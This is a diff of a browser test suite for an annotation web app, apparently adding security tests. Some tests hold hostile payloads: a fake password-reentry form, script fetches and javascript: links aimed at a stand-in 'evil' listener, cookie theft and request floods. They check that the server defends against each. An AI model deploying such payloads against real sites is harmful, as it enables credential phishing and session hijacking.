@@ -3,17 +3,22 @@
     python -m pytest tests/labeling/test_app_browser.py -q
     ALIGN_SCREENSHOTS=1 python -m pytest tests/labeling/test_app_browser.py -q -k screenshots
 
-One app on a temp SQLite store serves the whole module; each test signs in as its own
-annotator, so the tests do not share tasks. What a test checks is read back from the store,
-not from the page. ALIGN_SCREENSHOTS=1 also rewrites docs/img/annotator.png and admin.png.
+One app (labeling/server.py: the sign-in page, the session cookie, the Gradio app behind them)
+on a temp SQLite store serves most of the module; each test signs in as its own annotator, so
+the tests do not share tasks. What a test checks is read back from the store, not from the
+page. The tests of a hostile page or client (model text as HTML, a copied session hash, a
+flood of anonymous requests, a replayed submit, an export target, password guessing) replay
+what an attacker would send, through the real server. ALIGN_SCREENSHOTS=1 also rewrites
+docs/img/annotator.png and admin.png.
 """
 
 from __future__ import annotations
 
+import http.server
 import json
 import random
-import re
-import socket
+import secrets
+import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -32,8 +37,10 @@ REPO = Path(__file__).resolve().parents[2]
 ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", "--no-first-run"]
 PASSWORD = "correct horse"
-ANNOTATORS = ["mouse", "keys", "double", "ann1", "ann2", "plain", "seed", "reload"]
+ANNOTATORS = ["mouse", "keys", "double", "ann1", "ann2", "plain", "seed", "reload", "victim", "mallory", "leaver",
+              "replay", "locked"]
 TIMEOUT_MS = 15_000
+VIEWPORT = {"width": 1280, "height": 900}
 
 # A real-looking task for the screenshot: one prompt from data/support/prompts.jsonl and four
 # replies of different quality (B invents a discount, C is curt, D is padded).
@@ -41,7 +48,7 @@ REFUND_PROMPT = ("I want my money back. I paid for Pro almost two weeks ago and 
                  "the entire time.")
 REFUND_REPLIES = [
     "I'm sorry Pro hasn't worked out for you. Since your payment was less than 14 days ago, you can get a "
-    "full refund: go to **Settings > Account > Billing > Request refund**, or just reply here and I'll "
+    "full refund: go to Settings > Account > Billing > Request refund, or just reply here and I'll "
     "start it for you. It reaches your card in 5–10 business days.\n\nIf you have a minute, tell me what "
     "went wrong; if it's sync or search, there may be a quick fix.",
     "So sorry about that! I've gone ahead and refunded your last payment and added three months of Pro "
@@ -69,25 +76,21 @@ def _support_tasks(n: int) -> list[dict]:
     return tasks
 
 
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
-
-
 @contextmanager
 def running(store, **kwargs) -> Iterator[str]:
-    """The real app on `store`, served in this process on a free port; yields its URL."""
-    from labeling.app import build_app
+    """The real web app on `store`, served from a thread of this process; yields its URL."""
+    from labeling.server import create_app
+    from labeling.server import running as serve
 
-    demo = build_app(store, **kwargs)
-    port = _free_port()
-    demo.queue(default_concurrency_limit=8).launch(server_name="127.0.0.1", server_port=port,
-                                                   prevent_thread_lock=True, quiet=True)
-    try:
-        yield f"http://127.0.0.1:{port}"
-    finally:
-        demo.close()
+    with serve(create_app(store, **kwargs)) as url:
+        yield url
+
+
+def exporter(store, run_dir: Path):
+    """What `align label` hands the app for its Export button: `align export` on this run."""
+    from alignment.cli import export_for_label_app
+
+    return lambda: export_for_label_app(store.url, str(run_dir))
 
 
 def new_store(folder: Path, *, admin: str = "boss"):
@@ -100,14 +103,18 @@ def new_store(folder: Path, *, admin: str = "boss"):
 
 @pytest.fixture(scope="module")
 def served(tmp_path_factory):
-    """(url, store, export_dir) for one running app shared by the module; closed after it."""
+    """(url, store, run_dir) for one running app shared by the module; closed after it."""
+    from labeling.auth import Throttle
+
     tmp = tmp_path_factory.mktemp("labels")
     store = new_store(tmp)
     for name in ANNOTATORS:
         store.add_user(name, PASSWORD)
-    store.add_tasks("support-1", _support_tasks(16), source={"policy": "test"})
-    with running(store, overlap=1, export_dir=str(tmp / "export")) as url:
-        yield url, store, tmp / "export"
+    store.add_tasks("support-1", _support_tasks(24), source={"policy": "test"})
+    # Lock-outs as in production, only short enough for a test to wait one out.
+    with running(store, overlap=1, throttle=Throttle(first_lock=2.0), export=exporter(store, tmp),
+                 export_dir=str(tmp / "preferences")) as url:
+        yield url, store, tmp
 
 
 @pytest.fixture(scope="module")
@@ -120,42 +127,42 @@ def browser():
 
 @pytest.fixture
 def page(browser):
-    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context = browser.new_context(viewport=VIEWPORT)
     context.set_default_timeout(TIMEOUT_MS)
     yield context.new_page()
     context.close()
 
 
+def new_page(browser):
+    page = browser.new_context(viewport=VIEWPORT).new_page()
+    page.set_default_timeout(TIMEOUT_MS)
+    return page
+
+
 def sign_in(page, url: str, name: str, password: str = PASSWORD, *, expect_task: bool = True) -> None:
-    page.goto(url)
-    page.fill("#align-name textarea", name)
-    page.fill("#align-password input", password)
+    page.goto(url)  # a browser without a session lands on the sign-in page
+    page.fill("#align-name", name)
+    page.fill("#align-password", password)
     page.click("#align-signin")
     if expect_task:
         page.wait_for_selector("#resp-a", state="visible")
 
 
 def shown_task(page) -> tuple[str, list[str]]:
-    """The prompt and the response texts in the order the page shows them."""
-    prompt = page.inner_text("#align-prompt").removeprefix("Customer:").strip()
-    bodies = [page.inner_text(f"#resp-{letter} .align-body").strip() for letter in "abcd"]
+    """The prompt and the response texts in the order the page shows them (text, exactly as stored)."""
+    prompt = page.inner_text("#align-prompt .align-text")
+    bodies = [page.inner_text(f"#resp-{letter} .align-text") for letter in "abcd"]
     return prompt, bodies
 
 
 def canonical(store, prompt: str, bodies: list[str], ranks_shown: list[int]) -> tuple[int, list[int]]:
     """(task_id, ranks in the store's order) for what the page showed: map shown -> canonical by text."""
-    task = next(t for t in store_tasks(store) if _same(t["prompt"], prompt))
+    task = next(t for t in store_tasks(store) if t["prompt"] == prompt)
     ranks = [0] * len(task["responses"])
     for body, rank in zip(bodies, ranks_shown, strict=True):
-        [index] = [i for i, r in enumerate(task["responses"]) if _same(r, body)]
+        [index] = [i for i, r in enumerate(task["responses"]) if r == body]
         ranks[index] = rank
     return task["task_id"], ranks
-
-
-def _same(stored: str, shown: str) -> bool:
-    """The page shows rendered markdown (no `**`, list numbers as markers): compare the words."""
-    stored = re.sub(r"(?m)^\s*(\d+\.|[-*])\s+", "", stored)
-    return re.findall(r"\w+", stored) == re.findall(r"\w+", shown)
 
 
 def store_tasks(store) -> list[dict]:
@@ -179,12 +186,43 @@ def wait_for_rows(store, name: str, n: int, timeout: float = 10.0) -> list[dict]
     return rows
 
 
+def rank_all(page, ranks: list[int]) -> None:
+    for letter, rank in zip("abcd", ranks, strict=True):
+        page.click(f"#rank-{letter} label:has-text('{rank}')")
+
+
+@contextmanager
+def recorded_calls(page) -> Iterator[list[dict]]:
+    """The bodies of the Gradio calls the page makes meanwhile: what a client sends for each event."""
+    calls: list[dict] = []
+
+    def record(request) -> None:
+        if request.method == "POST" and "/gradio_api/" in request.url and request.post_data:
+            calls.append(request.post_data_json)
+
+    page.on("request", record)
+    try:
+        yield calls
+    finally:
+        page.remove_listener("request", record)
+
+
+def submit_call(page) -> dict:
+    """Submit with whatever is ranked, and return the call the page sent for it."""
+    with recorded_calls(page) as calls:
+        page.click("#align-submit")
+        page.wait_for_function("document.querySelector('#align-message').innerText.trim().length > 0")
+    [call] = [c for c in calls if len(c.get("data", [])) == 14]  # task id, shown_at, 8 ranks, verdict, flags, why
+    return call
+
+
 def test_sign_in_refuses_a_wrong_password(served, page):
     url, store, _ = served
     sign_in(page, url, "plain", "wrong password", expect_task=False)
-    page.wait_for_function("document.querySelector('#align-signin-error').innerText.trim().length > 0")
-    assert page.locator("#resp-a").is_hidden()
-    assert page.locator("#align-submit").is_hidden()
+    assert "unknown user or wrong password" in page.inner_text("#align-signin-error")
+    sign_in(page, url, "no-such-user", "wrong password", expect_task=False)
+    assert "unknown user or wrong password" in page.inner_text("#align-signin-error")  # the same words
+    assert page.locator("#resp-a, #align-submit").count() == 0  # the app is not even sent
     assert rankings_of(store, "plain") == []
     sign_in(page, url, "plain")  # the right password then works on the same page
     assert page.locator("#align-who").inner_text().startswith("Signed in as")
@@ -195,8 +233,7 @@ def test_rank_with_the_mouse_and_submit(served, page):
     sign_in(page, url, "mouse")
     prompt, bodies = shown_task(page)
     ranks = [3, 1, 4, 2]
-    for letter, rank in zip("abcd", ranks, strict=True):
-        page.click(f"#rank-{letter} label:has-text('{rank}')")
+    rank_all(page, ranks)
     page.click("#align-rationale textarea")
     page.keyboard.type("B has the exact menu path")
     page.click("#align-submit")
@@ -231,7 +268,8 @@ def test_rank_with_the_keyboard_ties_and_flags(served, page):
     assert prompt2 != prompt
     page.locator("#align-progress").click()
     page.keyboard.press("s")  # skip: a new task, no ranking
-    page.wait_for_function("p => !document.querySelector('#align-prompt').innerText.includes(p)", arg=prompt2)
+    page.wait_for_function("p => document.querySelector('#align-prompt').innerText !== p",
+                           arg=page.inner_text("#align-prompt"))
     assert len(rankings_of(store, "keys")) == 1
 
 
@@ -241,8 +279,7 @@ def test_a_partial_ranking_survives_a_reload(served, browser):
 
     url, store, _ = served
     annotator = handlers.sign_in(store, "reload", PASSWORD)["annotator_id"]
-    first = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
-    first.set_default_timeout(TIMEOUT_MS)
+    first = new_page(browser)
     sign_in(first, url, "reload")
     prompt, bodies = shown_task(first)
     first.click("#rank-a label:has-text('2')")
@@ -254,8 +291,7 @@ def test_a_partial_ranking_survives_a_reload(served, browser):
     assert store.draft(annotator, task_id) == partial
     first.context.close()  # the tab is gone without a submit
 
-    again = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
-    again.set_default_timeout(TIMEOUT_MS)
+    again = new_page(browser)
     try:
         sign_in(again, url, "reload")
         assert shown_task(again) == (prompt, bodies)  # the same task, in the same shuffled order
@@ -275,8 +311,7 @@ def test_a_partial_ranking_survives_a_reload(served, browser):
 def test_double_click_on_submit_keeps_one_ranking(served, page):
     url, store, _ = served
     sign_in(page, url, "double")
-    for letter, rank in zip("abcd", [1, 2, 3, 4], strict=True):
-        page.click(f"#rank-{letter} label:has-text('{rank}')")
+    rank_all(page, [1, 2, 3, 4])
     page.dblclick("#align-submit")
     wait_for_message(page, "✅")
     page.wait_for_timeout(1000)  # let a second request, if any, land
@@ -287,17 +322,14 @@ def test_double_click_on_submit_keeps_one_ranking(served, page):
 
 def test_two_annotators_at_once_get_different_tasks(served, browser):
     url, store, _ = served
-    contexts = [browser.new_context(viewport={"width": 1280, "height": 900}) for _ in range(2)]
+    pages = [new_page(browser) for _ in range(2)]
     try:
-        pages = [c.new_page() for c in contexts]
         for p, name in zip(pages, ["ann1", "ann2"], strict=True):
-            p.set_default_timeout(TIMEOUT_MS)
             sign_in(p, url, name)
         prompts = [shown_task(p)[0] for p in pages]
         assert prompts[0] != prompts[1]
         for p in pages:
-            for letter, rank in zip("abcd", [1, 1, 3, 4], strict=True):
-                p.click(f"#rank-{letter} label:has-text('{rank}')")
+            rank_all(p, [1, 1, 3, 4])
         for p in pages:  # both submits in flight together
             p.click("#align-submit")
         for p in pages:
@@ -306,63 +338,324 @@ def test_two_annotators_at_once_get_different_tasks(served, browser):
         assert [len(r) for r in rows] == [1, 1]
         assert rows[0][0]["task_id"] != rows[1][0]["task_id"]
     finally:
-        for c in contexts:
-            c.close()
+        for p in pages:
+            p.context.close()
+
+
+class _Listener(http.server.BaseHTTPRequestHandler):
+    """An outside server a hostile response points at: it records every request that reaches it."""
+
+    hits: list[str] = []
+
+    def _record(self) -> None:
+        _Listener.hits.append(f"{self.command} {self.path}")
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+
+    do_GET = do_POST = _record
+
+    def log_message(self, *args) -> None:
+        pass
+
+
+def test_model_text_is_shown_as_text_and_nothing_leaves_the_server(tmp_path, browser):
+    """Issue 12.1 and 12.6: a response's form, image, script, frame, link or CSS stays text; a 1 MB response
+    shows its first 20,000 characters at once, with a note."""
+    outside = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
+    threading.Thread(target=outside.serve_forever, daemon=True).start()
+    evil = f"http://127.0.0.1:{outside.server_address[1]}"
+    hostile = [
+        f'<form action="{evil}/steal" method="post"><p>Your session expired: re-enter your password</p>'
+        '<input type="password" name="pw" autofocus><button>Continue</button></form>',
+        f'![logo]({evil}/markdown.png) and <img src="{evil}/img.png"> <video src="{evil}/v.mp4" autoplay></video>',
+        f'<script>fetch("{evil}/script")</script><iframe src="{evil}/frame"></iframe>\n'
+        f'<a href="javascript:fetch(\'{evil}/js\')">click me</a> [a link]({evil}/link) <{evil}/autolink>',
+        f'<style>body {{ display: none }}</style><div style="position:fixed;inset:0;background:url({evil}/css.png)">'
+        'overlay</div> ${1+1} {{value}} `code` **bold**\n\n  indented\ttab & &amp; &lt;',
+    ]
+    prompt = f'Hi <b>there</b>\n<meta http-equiv="refresh" content="0;url={evil}/meta"><base href="{evil}/">'
+    huge = "A long reply. " * 75_000  # 1,050,000 characters
+    store = new_store(tmp_path)
+    store.add_user("reader", PASSWORD)
+    store.add_tasks("hostile", [{"prompt": prompt, "responses": hostile},
+                                {"prompt": "And a long one?", "responses": ["short", huge]}])
+    page = new_page(browser)
+    elsewhere: list[str] = []
+    try:
+        with running(store) as url:
+            page.on("request", lambda r: None if r.url.startswith(url) else elsewhere.append(r.url))
+            sign_in(page, url, "reader")
+            page.wait_for_timeout(500)  # time for anything the text could load or run
+            shown_prompt, bodies = shown_task(page)
+            assert shown_prompt == prompt and sorted(bodies) == sorted(hostile)  # what is stored, character for character
+            app = page.locator("#align-label-tab")
+            for element in ("form", "input[type=password]", "img", "video", "iframe", "script", "style", "meta",
+                            "base", "a"):
+                assert app.locator(f".align-text {element}").count() == 0, element
+            assert page.locator("input[type=password]").count() == 0
+            assert page.locator("#align-submit").is_visible()  # the CSS in the text did not hide the page
+            page.get_by_text("click me").click()  # text, not a link: nothing happens
+            page.get_by_text("a link").click()
+            page.wait_for_timeout(300)
+            assert elsewhere == [] and _Listener.hits == []
+            rank_all(page, [1, 2, 3, 4])
+
+            started = time.monotonic()
+            page.click("#align-submit")
+            page.wait_for_function("document.querySelector('#align-prompt').innerText.includes('long one')")
+            seconds = time.monotonic() - started
+            long_body = next(b for b in (page.inner_text(f"#resp-{x} .align-text") for x in "ab") if b != "short")
+            assert long_body == huge[:20_000] and seconds < 10, seconds
+            assert "1,030,000 more characters are not shown" in page.inner_text("#align-label-tab")
+            assert [r["text"] for r in store.task(2)["responses"]][1] == huge  # the stored text is whole
+            page.context.close()  # before the server stops: it would wait for the page's open streams
+    finally:
+        page.context.close()
+        outside.shutdown()
+
+
+def _gradio_post(request_context, url: str, call: dict, **changes):
+    """Send a Gradio call's body again (optionally changed) through /gradio_api/run/predict, as any client can."""
+    return request_context.post(f"{url}/gradio_api/run/predict", data={**call, **changes})
+
+
+def test_a_session_hash_is_not_a_login_and_the_cookie_cannot_be_read_by_the_page(served, browser):
+    """Issue 12.2: the session hash (in URLs, in proxy logs) gives neither an identity nor a reading of another's page."""
+    url, store, _ = served
+    victim, mallory, anonymous = new_page(browser), new_page(browser), browser.new_context()
+    try:
+        sign_in(victim, url, "victim")
+        victim_task = int(victim.input_value("#align-task-id input"))
+        sign_in(mallory, url, "mallory")
+        call = submit_call(mallory)  # a real submit call (nothing ranked yet: refused, nothing saved)
+        victim_hash = victim.evaluate("window.__gradio_session_hash__ || null")
+        if victim_hash is None:
+            with recorded_calls(victim) as calls:
+                victim.click("#rank-a label:has-text('1')")
+                victim.wait_for_timeout(500)
+            victim_hash = calls[0]["session_hash"]
+        as_victim = {"session_hash": victim_hash, "data": [victim_task, None, "1", "2", "3", "4", *[None] * 4,
+                                                           None, False, False, "mine now"]}
+        # Without a cookie: refused before Gradio, for every route (and the page is the sign-in form).
+        for response in (_gradio_post(anonymous.request, url, call, **as_victim),
+                         anonymous.request.post(f"{url}/gradio_api/queue/join", data={**call, **as_victim}),
+                         anonymous.request.get(f"{url}/gradio_api/queue/data?session_hash={victim_hash}"),
+                         anonymous.request.get(f"{url}/gradio_api/info")):
+            assert response.status == 401
+        assert "align-signin" in anonymous.request.get(url, headers={"Accept": "text/html"}).text()
+        # With another annotator's cookie: that annotator, whatever session hash the call names.
+        answer = _gradio_post(mallory.context.request, url, call, **as_victim)
+        assert answer.ok and "not assigned to you" in json.dumps(answer.json())
+        assert rankings_of(store, "victim") == [] and rankings_of(store, "mallory") == []
+
+        [cookie] = [c for c in victim.context.cookies() if c["name"] == "align_session"]
+        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
+        assert 11.9 * 3600 < cookie["expires"] - time.time() <= 12 * 3600
+        assert "align_session" not in victim.evaluate("document.cookie")  # no script on the page can read it
+    finally:
+        for p in (victim, mallory):
+            p.context.close()
+        anonymous.close()
+
+
+def test_sign_out_and_expiry_end_the_session_on_the_server(served, browser):
+    """Issue 12.2: a copied cookie stops working when its owner signs out, and when it expires."""
+    url, store, _ = served
+    page, thief = new_page(browser), browser.new_context()
+    try:
+        sign_in(page, url, "leaver")
+        [cookie] = [c for c in page.context.cookies() if c["name"] == "align_session"]
+        thief.add_cookies([cookie])  # a copy of the cookie, taken while it was valid
+        assert thief.request.get(f"{url}/gradio_api/info").ok
+        page.click("#align-signout")
+        page.wait_for_url("**/login")
+        assert thief.request.get(f"{url}/gradio_api/info").status == 401
+        assert "align-signin" in thief.request.get(url, headers={"Accept": "text/html"}).text()
+
+        sign_in(page, url, "leaver")
+        from sqlalchemy import text
+
+        with store.engine.begin() as conn:  # as if 12 hours had passed: the server checks, not the browser
+            conn.execute(text("UPDATE sessions SET expires = 0"))
+        page.click("#rank-a label:has-text('1')")
+        page.click("#align-submit")
+        page.wait_for_timeout(500)
+        assert rankings_of(store, "leaver") == []
+        page.reload()
+        page.wait_for_selector("#align-signin")  # back to the sign-in page
+    finally:
+        page.context.close()
+        thief.close()
+
+
+def test_anonymous_floods_never_reach_gradio_and_nobody_is_signed_out(tmp_path, browser):
+    """Issue 12.3: 150 anonymous calls with fresh session hashes, against a Gradio that keeps only 20 sessions:
+    every call is refused before Gradio, and a signed-in annotator goes on working. So does she when another
+    signed-in client pushes her page's Gradio session out: her identity and task are not in that state."""
+    from labeling.server import create_app
+    from labeling.server import running as serve
+
+    store = new_store(tmp_path)
+    store.add_user("worker", PASSWORD)
+    store.add_tasks("flood", _support_tasks(4))
+    app = create_app(store)
+    holder = app.state.blocks.state_holder
+    holder.capacity = 20
+    page = new_page(browser)
+    try:
+        with serve(app) as url:
+            sign_in(page, url, "worker")
+            call = submit_call(page)  # nothing ranked: refused, but now we know what a submit call looks like
+            sessions = len(holder.session_data)
+
+            def flood(i: int) -> int:
+                fresh = {"session_hash": secrets.token_hex(5)}
+                if i % 3 == 0:
+                    return _gradio_post(anonymous.request, url, call, **fresh).status
+                if i % 3 == 1:
+                    return anonymous.request.post(f"{url}/gradio_api/queue/join", data={**call, **fresh}).status
+                return anonymous.request.get(f"{url}/gradio_api/heartbeat/{fresh['session_hash']}").status
+
+            anonymous = browser.new_context()
+            statuses = [flood(i) for i in range(150)]  # Playwright's request context is not thread safe
+            anonymous.close()
+            assert set(statuses) == {401}
+            assert len(holder.session_data) == sessions  # not one Gradio session more
+
+            prompt, bodies = shown_task(page)
+            rank_all(page, [2, 1, 4, 3])
+            page.click("#align-submit")
+            wait_for_message(page, "✅")
+            assert [r["ranks"] for r in rankings_of(store, "worker")] == [canonical(store, prompt, bodies, [2, 1, 4, 3])[1]]
+
+            # Signed-in calls from fresh session hashes do make Gradio sessions: 30 of them push hers out.
+            mine = page.context.request
+            for _ in range(30):
+                assert _gradio_post(mine, url, call, session_hash=secrets.token_hex(5)).ok
+            assert len(holder.session_data) == 20
+            prompt, bodies = shown_task(page)
+            rank_all(page, [1, 2, 3, 4])
+            page.click("#align-submit")
+            rows = wait_for_rows(store, "worker", 2)
+            assert rows[1]["ranks"] == canonical(store, prompt, bodies, [1, 2, 3, 4])[1]
+            page.context.close()  # before the server stops: it would wait for the page's open streams
+    finally:
+        page.context.close()
+
+
+def test_a_replayed_submit_is_already_saved_and_never_ranks_the_next_task(served, page):
+    """Issue 12.4: the same submit sent again after the next task is shown changes nothing."""
+    from labeling import handlers
+
+    url, store, _ = served
+    sign_in(page, url, "replay")
+    first = int(page.input_value("#align-task-id input"))
+    rank_all(page, [4, 3, 2, 1])
+    call = submit_call(page)
+    assert call["data"][0] == first
+    page.wait_for_function("t => document.querySelector('#align-task-id input').value != t", arg=str(first))
+    second = int(page.input_value("#align-task-id input"))
+    answer = _gradio_post(page.context.request, url, call)
+    assert "Already saved" in json.dumps(answer.json())
+    annotator = handlers.sign_in(store, "replay", PASSWORD)["annotator_id"]
+    assert [r["task_id"] for r in rankings_of(store, "replay")] == [first]
+    assert store.draft(annotator, second) is None and store.assignment_status(annotator, second) == "assigned"
+    page.click("#align-submit")  # the next task, still unranked on the page, is refused as such
+    wait_for_message(page, "give every response a rank")
 
 
 def test_admin_tab_is_refused_to_annotators_and_exports_for_admins(served, page, browser):
+    """Issue 12.5: the Export button writes the recipe's artifact (align.json, config.yaml) to the run's
+    preferences folder, refuses a folder that is not an export, and never deletes a file it did not write."""
     from labeling import handlers
 
-    url, store, export_dir = served
+    url, store, run_dir = served
+    out = run_dir / "preferences"
     seed = handlers.sign_in(store, "seed", PASSWORD)  # rankings to export, whichever tests ran before
     for _ in range(2):
-        handlers.submit(store, seed, handlers.next_task(store, seed), [1, 2, 3, 4], seconds=30.0)
+        handlers.submit(store, seed, handlers.next_task(store, seed)["task_id"], [1, 2, 3, 4], seconds=30.0)
     sign_in(page, url, "plain")
     assert page.get_by_role("tab", name="Admin").count() == 0
     assert page.locator("#align-refresh, #align-export").count() == 0  # not even in the page
+    # Called directly, as any signed-in client can: refused, nothing written.
+    refused = page.context.request.post(f"{url}/gradio_api/run/do_export", data={"data": [], "session_hash": "x"})
+    assert "admin view is for admins" in refused.text() and not out.exists()
 
-    admin = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
-    admin.set_default_timeout(TIMEOUT_MS)
+    admin = new_page(browser)
     try:
+        out.mkdir()
+        (out / "thesis.tex").write_text("not an export")
         sign_in(admin, url, "boss")
         admin.get_by_role("tab", name="Admin").click()
         admin.wait_for_function("document.querySelector('#align-totals').innerText.includes('rankings')")
         # the table renders its rows after the update lands
         admin.wait_for_function("document.querySelector('#align-per-annotator').innerText.includes('seed')")
+        assert admin.locator("#align-export-dir input, #align-export-dir textarea").count() == 0  # no path to type
+        admin.click("#align-export")
+        admin.wait_for_function("document.querySelector('#align-export-summary').innerText.includes('not a preferences')")
+        assert sorted(p.name for p in out.iterdir()) == ["thesis.tex"]
+
+        (out / "thesis.tex").unlink()
         admin.click("#align-export")
         admin.wait_for_function("document.querySelector('#align-export-summary').innerText.includes('Exported')")
-        summary = json.loads((export_dir / "summary.json").read_text())
-        assert summary["pairs"] > 0 and (export_dir / "dataset_dict.json").is_file()
+        summary = json.loads((out / "summary.json").read_text())
+        manifest = json.loads((out / "align.json").read_text())
+        assert summary["pairs"] > 0 and (out / "dataset_dict.json").is_file() and (out / "config.yaml").is_file()
+        assert manifest["stage"] == "export" and manifest["summary"]["pairs"] == summary["pairs"]
         assert f"{summary['pairs']} pairs" in admin.inner_text("#align-export-summary")
+
+        (out / "notes.md").write_text("the admin's own notes")  # a file in the export folder the export did not write
+        (out / "config.yaml").write_text((out / "config.yaml").read_text().replace("min_agreement: null",
+                                                                                    "min_agreement: 1.0"))
+        admin.click("#align-export")
+        deadline = time.monotonic() + 60
+        while (again := json.loads((out / "align.json").read_text()))["config"]["min_agreement"] is None:
+            assert time.monotonic() < deadline, "the second export did not replace the first"
+            time.sleep(0.2)
+        assert again["config"]["min_agreement"] == 1.0  # the button kept the settings of the export it replaced
+        assert (out / "notes.md").read_text() == "the admin's own notes"
     finally:
         admin.context.close()
+
+
+def test_sign_in_is_locked_out_after_five_failures(served, page):
+    """Issue 12.6: password guessing stops after five wrong passwords; the right one waits out the lock too."""
+    url, store, _ = served
+    for _ in range(5):
+        sign_in(page, url, "locked", "guess", expect_task=False)
+        assert "unknown user or wrong password" in page.inner_text("#align-signin-error")
+    started = time.monotonic()
+    sign_in(page, url, "locked", expect_task=False)
+    assert "too many failed sign-ins: try again in 2 s" in page.inner_text("#align-signin-error")
+    assert page.locator("#resp-a").count() == 0
+    page.wait_for_timeout(max(0.0, 2.2 - (time.monotonic() - started)) * 1000)
+    sign_in(page, url, "locked")
+    assert page.locator("#align-who").inner_text().startswith("Signed in as")
 
 
 def test_pairwise_task_maps_the_verdict_to_ranks(tmp_path, browser):
     store = new_store(tmp_path)
     store.add_user("judge", PASSWORD)
     store.add_tasks("eval-ab", [{"prompt": REFUND_PROMPT, "responses": REFUND_REPLIES[:2]}], kind="pairwise")
-    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
-    page.set_default_timeout(TIMEOUT_MS)
+    page = new_page(browser)
     try:
         with running(store) as url:
-            page.goto(url)
-            page.fill("#align-name textarea", "judge")
-            page.fill("#align-password input", PASSWORD)
-            page.click("#align-signin")
+            sign_in(page, url, "judge", expect_task=False)
             page.wait_for_selector("#align-pairwise", state="visible")
             assert page.locator("#rank-a").is_hidden()
-            prompt, (a, b) = page.inner_text("#align-prompt"), [
-                page.inner_text(f"#resp-{x} .align-body") for x in "ab"]
+            prompt = page.inner_text("#align-prompt .align-text")
+            a, b = [page.inner_text(f"#resp-{x} .align-text") for x in "ab"]
             page.locator("#align-progress").click()
             page.keyboard.press("3")  # B better
             assert page.locator("#align-pairwise input:checked").get_attribute("value") == "B"
             page.keyboard.press("Control+Enter")
             wait_for_message(page, "✅")
             [row] = wait_for_rows(store, "judge", 1)
-            _, expected = canonical(store, prompt.removeprefix("Customer:").strip(), [a, b], [2, 1])
+            _, expected = canonical(store, prompt, [a, b], [2, 1])
             assert row["ranks"] == expected and row["flags"] == []
             assert "All done" in page.inner_text("#align-progress")
+            page.context.close()  # before the server stops: it would wait for the page's open streams
     finally:
         page.context.close()
 
@@ -403,19 +696,21 @@ def test_screenshots(tmp_path, browser, monkeypatch):
             if task is None:
                 break
             if task["task_id"] == refund:
-                handlers.skip(store, session, task)  # left open for the annotator screenshot
+                handlers.skip(store, session, task["task_id"])  # left open for the annotator screenshot
                 continue
             ranks = [1, 2, 3, 4]
             if rng.random() < noise:
                 j = rng.randrange(3)
                 ranks[j], ranks[j + 1] = ranks[j + 1], ranks[j]
-            handlers.submit(store, session, task, [ranks[j] for j in task["order"]], seconds=rng.uniform(20, 95))
+            handlers.submit(store, session, task["task_id"], [ranks[j] for j in task["order"]],
+                            seconds=rng.uniform(20, 95))
     monkeypatch.undo()
 
     out = REPO / "docs/img"
     out.mkdir(parents=True, exist_ok=True)
     monkeypatch.chdir(tmp_path)  # the export folder the picture shows is the default one, written under tmp
-    with running(store, overlap=3, export_dir="runs/quickstart/preferences") as url:
+    with running(store, overlap=3, export=exporter(store, Path("runs/quickstart")),
+                 export_dir="runs/quickstart/preferences") as url:
         page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
         sign_in(page, url, "sam")
         assert "money back" in page.inner_text("#align-prompt")
@@ -423,10 +718,10 @@ def test_screenshots(tmp_path, browser, monkeypatch):
         _, bodies = shown_task(page)
         wanted = {0: "1", 2: "2", 3: "3"}  # good, curt, padded; the invented discount is still open
         for letter, body in zip("abcd", bodies, strict=True):
-            [index] = [i for i, r in enumerate(REFUND_REPLIES) if _same(r, body)]
+            index = REFUND_REPLIES.index(body)
             if index in wanted:
                 page.click(f"#rank-{letter} label:has-text('{wanted[index]}')")
-        page.click(f"#resp-{'abcd'[[_same(REFUND_REPLIES[1], b) for b in bodies].index(True)]} .align-body")
+        page.click(f"#resp-{'abcd'[bodies.index(REFUND_REPLIES[1])]} .align-body")
         page.wait_for_timeout(600)
         page.screenshot(path=str(out / "annotator.png"), full_page=True)
 
